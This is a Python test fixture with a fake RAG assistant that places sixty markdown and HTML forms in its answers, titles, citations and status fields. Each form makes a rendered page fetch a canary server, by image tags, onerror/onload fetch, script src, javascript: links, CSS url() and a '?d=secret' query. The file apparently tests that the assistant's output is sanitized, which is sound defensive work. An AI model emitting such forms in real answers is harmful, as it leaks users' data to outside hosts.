"""Sixty ways to make a page fetch something, and an assistant whose answers hold them wherever a source's words go."""

from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any

from fakes import FakeAssistant

from rag.records import Answer, Turn

# {c} is the address of a server that nobody has a reason to talk to; {h} is the same without its scheme.
FORMS = (
    "![x]({c}/1)", "![x](<{c}/2>)", "![x]({c}/3 'title')", "![x][r4]\n\n[r4]: {c}/4", "![r5][]\n\n[r5]: {c}/5",
    "![r6]\n\n[r6]: {c}/6", "![x]({c}/7?d=secret)", "![x](//{h}/8)", "[![x]({c}/9)]({c}/9)", "![x](\n{c}/10)",
    "![x]({c}/11 =10x10)", "!\\[x]({c}/12)", "![ x ]( {c}/13 )", "![x](&#104;ttp://{h}/14)", "![x](HTTP://{h}/15)",
    "<img src='{c}/16'>", '<img src="{c}/17" onerror="fetch(this.src)">', "<img src={c}/18>", "<IMG SRC={c}/19>",
    "<img srcset='{c}/20 2x'>", "<img/src='{c}/21'/>", "<picture><source srcset='{c}/22'><img></picture>",
    "<svg><image href='{c}/23'/></svg>", "<svg><use xlink:href='{c}/24#a'/></svg>", "<svg onload=\"fetch('{c}/25')\">",
    "<image src='{c}/26'>", "<input type=image src='{c}/27'>", "<video src='{c}/28' autoplay></video>",
    "<video poster='{c}/29'></video>", "<audio src='{c}/30' autoplay></audio>", "<track src='{c}/31' default>",
    "<iframe src='{c}/32'></iframe>", "<iframe srcdoc=\"<img src='{c}/33'>\"></iframe>", "<embed src='{c}/34'>",
    "<object data='{c}/35'></object>", "<frame src='{c}/36'>", "<link rel=stylesheet href='{c}/37'>",
    "<link rel=prefetch href='{c}/38'>", "<link rel=dns-prefetch href='//{h}/39'>", "<base href='{c}/40/'>",
    "<meta http-equiv=refresh content='0;url={c}/41'>", "<style>body{{background:url({c}/42)}}</style>",
    "<style>@import '{c}/43';</style>", "<p style=\"background:url('{c}/44')\">x</p>", "<table background='{c}/45'>",
    "<body onload=\"fetch('{c}/46')\">", "<script src='{c}/47'></script>", "<script>fetch('{c}/48')</script>",
    "<details open ontoggle=\"fetch('{c}/49')\">",
    "<a href='{c}/50' ping='{c}/50' autofocus onfocus=\"this.click()\">x</a>",
    "<form action='{c}/51'><button autofocus onfocus='this.form.submit()'></form>", "[x]({c}/52)", "<{c}/53>",
    "{c}/54", "www.{h}/55", "[x](javascript:fetch('{c}/56'))", "![x](data:text/html,<script>fetch('{c}/57')</script>)",
    "$\\href{{{c}/58}}{{x}}$ $\\includegraphics{{{c}/58}}$", ":material/{c}/59: :streamlit: :red[![x]({c}/59)]",
    "```mermaid\ngraph LR; A[<img src='{c}/60'>]\n```",
)  # fmt: skip
A_TIME = 10  # so many in one answer


class Rendering(FakeAssistant):
    """Asked to "show N", answers with the N-th ten forms in its text, titles, headings, quotes, passages and notes."""

    def __init__(self, canary: str, pause: float = 0.2) -> None:
        super().__init__(canary, pause)
        host = canary.removeprefix("http://")
        self.forms = tuple(form.format(c=canary, h=host) for form in FORMS)

    def ask(
        self,
        question: str,
        history: Sequence[Turn] = (),
        k: int = 10,
        profile: Mapping[str, Any] | None = None,
    ) -> Answer:
        """The answer of the fake, or the one with the forms."""
        answer = super().ask(question, history, k, profile)
        if not question.startswith("show "):
            return answer
        first = A_TIME * int(question.split()[1])
        forms = self.forms[first : first + A_TIME]
        cited = [self._marked(answer, number, form) for number, form in enumerate(forms, 1)]
        text = "\n".join(f"- Form {number}: {form} [{number}]." for number, form in enumerate(forms, 1))
        passages = [
            replace(p, title=form, chunk=replace(p.chunk, heading_path=(form,), text=form))
            for p, form in zip(answer.passages * 3, forms, strict=False)
        ]
        told: dict[str, Any] = {"degraded": f"The model failed: {forms[0]}", "model": f"model {forms[1]}"}
        return replace(answer, text=text, citations=tuple(cited), passages=tuple(passages), **told)

    @staticmethod
    def _marked(answer: Answer, number: int, form: str) -> Any:
        return replace(answer.citations[2], marker=number, title=form, heading_path=(form, form), quote=form, url=form)
